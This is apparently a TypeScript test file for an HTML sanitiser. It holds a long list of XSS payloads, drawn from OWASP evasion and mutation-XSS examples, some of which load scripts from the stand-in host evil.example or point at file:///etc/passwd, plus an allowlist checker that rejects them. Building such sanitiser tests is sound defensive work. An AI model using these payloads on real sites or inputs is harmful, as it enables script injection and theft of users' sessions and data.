import assert from 'node:assert/strict'
import { decodeHTML } from 'entities'

// From the OWASP cheat sheet on filter evasion, mutation XSS, and published vulnerabilities of other sanitisers.
export const attacks: readonly string[] = [
  // Scripts, in plain and in unusual spelling.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script\x0d\x0a>alert(1)</script\x0d\x0a>',
  '<<script>alert(1);//<</script>',
  '<script src=https://evil.example/x.js?<b>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<scr\x00ipt>alert(1)</scr\x00ipt>',
  '<script>a="</script><img src=x onerror=alert(1)>"</script>',
  '</script><script>alert(1)</script>',
  '<script a=">" src="https://evil.example/x.js"></script>',
  '<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\x0b=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src= onmouseover="alert(1)">',
  '<img onmouseover="alert(1)">',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097alert(1)">',
  '<body onload=alert(1)>',
  '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<p onclick\n=\nalert(1)>x</p>',
  '<b/onclick=alert(1)>x</b>',
  '<a onmouseover=alert(1)\\>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerrawupdate=alert(1) style=x>y</div>',
  '<p title="x" "onclick="alert(1)">x</p>',
  '<p class=\'"onclick=alert(1) x="\'>x</p>',
  '<p title="`onclick=alert(1)`">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p title="&#34; onclick=&#34;alert(1)">x</p>',
  // Addresses.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="java\ufdd0script:alert(1)">x</a>',
  '<a href="java\ufdd1script:alert(1)">x</a>',
  '<a href="java\ufdd0#115;cript:alert(1)">x</a>',
  '<a href="java&#xFDD0;script:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<a href=javascript:alert(String.fromCharCode(88,83,83))>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:x">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://x" href="javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, x 2x">',
  '<img src=x srcset="data:text/html,x 1x">',
  '<video poster="javascript:alert(1)"></video>',
  '<video><source src="javascript:alert(1)" onerror="alert(1)"></video>',
  '<q cite="javascript:alert(1)">x</q>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<input type="image" src="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)">',
  '<br size="&{alert(1)}">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="set-cookie" content="a=<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<area href="javascript:alert(1)"><map name=x></map>',
  // Embedded documents.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><iframe><img src=x onerror=alert(1)></iframe></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
  '<applet code="x">y</applet>',
  // Style.
  '<style>@import"javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="background-image: url(javascript:alert(1))">x</p>',
  '<p style="background-image:\\0075\\0072\\006C\\0028\'javascript:alert(1)\'">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>',
  '<p style="width: e/**/xpression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<p style="color: red; position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
  '<p style="font-family: \'x&quot; onclick=&quot;alert(1)\'">x</p>',
  '<p style="color:red&#59;background:url(//evil.example)">x</p>',
  '<p style="color: rgb(url(x))">x</p>',
  // Foreign markup and mutations: harmless when parsed once, harmful when a browser parses the result again.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)></table>',
  '<p><foo><p><img src=x onerror=alert(1)></foo>',
  // Comments, declarations, malformed ends.
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?import namespace="t"><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e "<script>">]>&e;',
  '<img src=x onerror=alert(1)//',
  '<iframe src=https://evil.example/ <',
  '</br style=a:expression(alert(1))>',
  '<img src="x" title="<img src=x onerror=alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '¼script¾alert(1)¼/script¾',
  '＜script＞alert(1)＜/script＞',
  '<\u{e0001}script>alert(1)</script>',
  `${'<b>'.repeat(600)}<img src=x onerror=alert(1)>`,
]

const elements = new Set(
  (
    'a abbr acronym address article aside audio b bdi bdo big blockquote br caption cite code col colgroup dd del ' +
    'details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main ' +
    'mark nav ol p pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td ' +
    'tfoot th thead time tr track tt u ul var video wbr'
  ).split(' '),
)
const attributes = new Set(
  (
    'abbr align alt bgcolor border cellpadding cellspacing cite class clear color colspan controls datetime decoding ' +
    'default dir download face headers height hidden href hreflang hspace id kind label lang loading loop muted name noshade ' +
    'nowrap open poster preload rel reversed role rowspan rules scope size sizes span src srclang srcset start style summary ' +
    'target title type valign value vspace width'
  ).split(' '),
)

/** A tag as read by `tagsIn`, with the character references in its attribute values decoded. */
export interface ReadTag {
  readonly name: string
  readonly isEnd: boolean
  readonly attributes: readonly (readonly [name: string, value: string])[]
}

/**
 * Returns the tags of `html`. This reader accepts only the plainest spelling of HTML, which every browser reads the
 * same way.
 */
export function tagsIn(html: string): readonly ReadTag[] {
  const tags: ReadTag[] = []
  let rest = html
  while (rest !== '') {
    const text = /^[^<>]+/.exec(rest)?.[0]
    const tag = /^<(\/?)([a-z][a-z0-9]*)((?: [a-z][a-z0-9_-]*(?:="[^"<>]*")?)*)( \/)?>/.exec(rest)
    assert.ok(text ?? tag, `neither text nor a plain tag: ${rest.slice(0, 80)}`)
    if (tag) {
      const written = tag[3] ?? ''
      const attributes = [...written.matchAll(/ ([a-z][a-z0-9_-]*)(?:="([^"]*)")?/g)].map(
        ([, attribute = '', value = '']) => [attribute, decodeHTML(value)] as const,
      )
      tags.push({ name: tag[2] ?? '', isEnd: tag[1] === '/', attributes })
    }
    rest = rest.slice((text ?? tag?.[0] ?? '').length)
  }
  return tags
}

/** Fails if `html` contains anything that no text may contain, or is not spelled in the plainest way. */
export function assertHarmless(html: string): void {
  for (const { name, attributes } of tagsIn(html)) assertHarmlessTag(name, attributes)
}

function assertHarmlessTag(name: string, pairs: ReadTag['attributes']): void {
  assert.ok(elements.has(name), `the element ${name}`)
  for (const [attribute, value] of pairs) {
    const isOfMany = attribute.startsWith('aria-') || /^data(?:-[a-z0-9_]+)+$/.test(attribute)
    assert.ok(attributes.has(attribute) || isOfMany, `the attribute ${attribute}`)
    if (['href', 'src', 'cite', 'poster'].includes(attribute)) assertHarmlessAddress(value)
    if (attribute === 'srcset')
      for (const candidate of value.split(/,\s+/)) assertHarmlessAddress(candidate.trim().split(/\s/)[0] ?? '')
    if (attribute === 'style') assert.doesNotMatch(value, /url|expression|import|binding|behavio|position|[\\<@]/i)
  }
}

function assertHarmlessAddress(address: string): void {
  const base = 'https://base.example/'
  if (!URL.canParse(address, base)) return
  assert.ok(['http:', 'https:', 'mailto:', 'tel:', 'ftp:'].includes(new URL(address, base).protocol), address)
}
